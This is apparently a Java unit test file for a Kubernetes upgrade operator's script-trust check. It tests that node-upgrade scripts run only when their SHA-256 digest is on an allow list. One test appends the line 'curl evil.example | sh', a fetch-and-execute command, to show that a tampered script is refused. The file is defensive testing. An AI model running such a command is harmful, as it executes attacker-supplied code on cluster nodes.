package dev.cks.nodeops.upgrade;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import java.util.Set;

import org.junit.jupiter.api.Test;

class ScriptTrustTest {
    private static final String SCRIPT = "#!/bin/sh\nkubeadm upgrade node\n";
    private final ScriptTrust trust = new ScriptTrust(Set.of(ScriptTrust.sha256(SCRIPT).toUpperCase()));

    @Test
    void aListedScriptIsTrustedWithItsDigest() {
        assertThat(trust.judge("ops", "scripts", "kubeadm", Map.of("kubeadm", SCRIPT)))
                .isEqualTo(new ScriptTrust.Trusted(ScriptTrust.sha256(SCRIPT)));
    }

    @Test
    void theOperatorsOwnCksScriptIsAlwaysTrusted() {
        assertThat(new ScriptTrust(Set.of()).judge("ops", CloudStackIsoExecutor.SCRIPT_CONFIGMAP, CloudStackIsoExecutor.SCRIPT_KEY,
                Map.of(CloudStackIsoExecutor.SCRIPT_KEY, CloudStackIsoExecutor.script()))).isInstanceOf(ScriptTrust.Trusted.class);
    }

    @Test
    void aChangedScriptIsRefusedNamingItsDigestAndWhereAllowedScriptsComeFrom() {
        ScriptTrust.Verdict verdict = trust.judge("ops", "scripts", "kubeadm", Map.of("kubeadm", SCRIPT + "curl evil.example | sh\n"));

        assertThat(verdict).isInstanceOfSatisfying(ScriptTrust.Refused.class, r -> assertThat(r.message())
                .contains("ConfigMap ops/scripts key kubeadm").contains("does not list").contains("Nothing was cordoned").contains("upgrade.scripts"));
    }

    @Test
    void aMissingConfigMapOrKeyIsRefusedSayingWhatToFix() {
        assertThat(trust.judge("ops", "scripts", "kubeadm", null)).isInstanceOfSatisfying(ScriptTrust.Refused.class,
                r -> assertThat(r.message()).contains("ConfigMap ops/scripts does not exist"));
        assertThat(trust.judge("ops", "scripts", "kubeadm", Map.of("other", SCRIPT))).isInstanceOfSatisfying(ScriptTrust.Refused.class,
                r -> assertThat(r.message()).contains("has no key kubeadm (it has: other)").contains("configMapRef.key"));
    }
}
